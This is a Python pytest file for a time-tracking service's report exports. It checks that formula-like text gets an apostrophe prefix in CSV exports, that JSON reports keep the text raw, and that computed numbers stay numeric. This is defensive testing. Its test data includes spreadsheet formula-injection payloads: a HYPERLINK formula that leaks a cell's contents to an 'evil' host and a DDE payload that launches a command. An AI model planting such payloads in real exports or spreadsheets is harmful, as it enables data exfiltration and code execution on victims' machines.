"""Formula injection in report exports: text people typed (descriptions, project, client, tag,
task and user names, emails) that a spreadsheet would read as a formula arrives in every CSV
export prefixed with ``'``; the JSON reports carry it raw, and the numbers the reports compute
stay numbers."""

from __future__ import annotations

import uuid
from typing import Any

import pytest
from fastapi.testclient import TestClient

from tests.conftest import make_user
from tests.reports.helpers import Team, join_workspace, make_team
from tests.reports.test_exports import export, read_csv, seconds_of
from tests.service.core_helpers import cheap_hashing  # noqa: F401 (autouse: cheap argon2)
from trackgate.runtime import Runtime
from trackgate.storage.models import Project

FORMULAS = [
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tleading tab",
    "\rleading carriage return",
]
CLIENT, TAG, TASK, FULLNAME = FORMULAS[0], FORMULAS[2], FORMULAS[1], FORMULAS[3]


@pytest.fixture
def email() -> str:
    """A formula-looking address of this test's own (the PostgreSQL pass shares a database)."""
    return f"=cmd-{uuid.uuid4().hex[:10]}@example.com"


WEEK = {"start_date": "2024-12-09", "end_date": "2024-12-15"}


def safe(text: str) -> str:
    return "'" + text


@pytest.fixture
def team(client: TestClient, runtime: Runtime, email: str) -> Team:
    made = make_team(client, runtime)
    made.workspace(default_hourly_rate=40.0)
    typist = make_user(runtime, fullname=FULLNAME, email=email)
    join_workspace(runtime, typist, made.workspace_id)
    client_id = made.client_named(CLIENT)["id"]
    for day, text in enumerate(FORMULAS, start=9):
        project = made.project(text, client_id=client_id, billable=True)
        if project["name"] != text:  # the API trims names; imported data need not be trimmed
            with runtime.db.write() as session:
                stored = session.get(Project, project["id"])
                assert stored is not None
                stored.name = text
        fields: dict[str, Any] = {"description": text, "tags": [TAG], "billable": True}
        fields["project_id"] = project["id"]
        if day == 9:
            fields["task_id"] = made.task(project["id"], TASK)
        made.entry(typist, f"2024-12-{day:02d}T08:00:00Z", 3600 + day, **fields)
    return made


def test_detailed_csv_neutralises_formulas_and_its_json_keeps_them(team: Team, email: str) -> None:
    rows = read_csv(export(team, "search/time_entries.csv", **WEEK))
    assert sorted(r["Description"] for r in rows) == sorted(safe(t) for t in FORMULAS)
    for row in rows:
        assert row["Project"] == row["Description"]
        assert row["Client"] == safe(CLIENT) and row["Tags"] == safe(TAG)
        assert (row["User"], row["Email"]) == (safe(FULLNAME), safe(email))
        assert row["Task"] in ("", safe(TASK))
        assert not row["Duration"].startswith("'") and seconds_of(row["Duration"]) > 3600
        assert float(row["Amount (USD)"]) > 40
    assert sum(1 for r in rows if r["Task"]) == 1

    found = team.ok(team.admin, "search/time_entries", **WEEK, enrich_response=True)
    assert sorted(r["description"] for r in found) == sorted(FORMULAS)
    for row in found:
        assert row["project_name"] == row["description"]
        assert (row["client_name"], row["tag_names"]) == (CLIENT, [TAG])
        assert (row["username"], row["email"]) == (FULLNAME, email)
        assert row["task_name"] in (None, TASK)


@pytest.mark.parametrize(
    ("grouping", "sub_grouping", "expected"),
    [
        ("projects", "time_entries", (FORMULAS, FORMULAS)),
        ("clients", "tasks", ([CLIENT], [TASK, "(no task)"])),
        ("users", "tags", ([FULLNAME], [TAG])),
    ],
)
def test_summary_csv_neutralises_group_titles(
    team: Team, grouping: str, sub_grouping: str, expected: tuple[list[str], list[str]]
) -> None:
    body = {**WEEK, "grouping": grouping, "sub_grouping": sub_grouping}
    rows = read_csv(export(team, "summary/time_entries.csv", **body))
    group_column, sub_column = list(rows[0])[:2]
    groups, subs = expected
    assert {r[group_column] for r in rows} == {t if t[0] == "(" else safe(t) for t in groups}
    assert {r[sub_column] for r in rows} == {t if t[0] == "(" else safe(t) for t in subs}
    assert all(not r["Duration"].startswith("'") for r in rows)
    assert all(not r["Amount (USD)"].startswith("'") for r in rows)

    if grouping == "projects":  # the JSON summary carries the descriptions raw
        found = team.ok(team.admin, "summary/time_entries", **body)
        titles = [s["title"] for g in found["groups"] for s in g["sub_groups"]]
        assert sorted(titles) == sorted(FORMULAS)


def test_weekly_csv_neutralises_user_and_project_names(team: Team) -> None:
    rows = read_csv(export(team, "weekly/time_entries.csv", start_date="2024-12-09"))
    assert sorted(r["Project"] for r in rows) == sorted(safe(t) for t in FORMULAS)
    assert {r["User"] for r in rows} == {safe(FULLNAME)}
    assert all(seconds_of(r["Total"]) > 3600 for r in rows)

    weekly = team.ok(team.admin, "weekly/time_entries", start_date="2024-12-09")
    ids = {row["project_id"] for row in weekly}
    url = f"/api/v9/workspaces/{team.workspace_id}/projects"
    projects = team.client.get(url, headers=team.admin.auth).json()
    assert sorted(p["name"] for p in projects if p["id"] in ids) == sorted(FORMULAS)
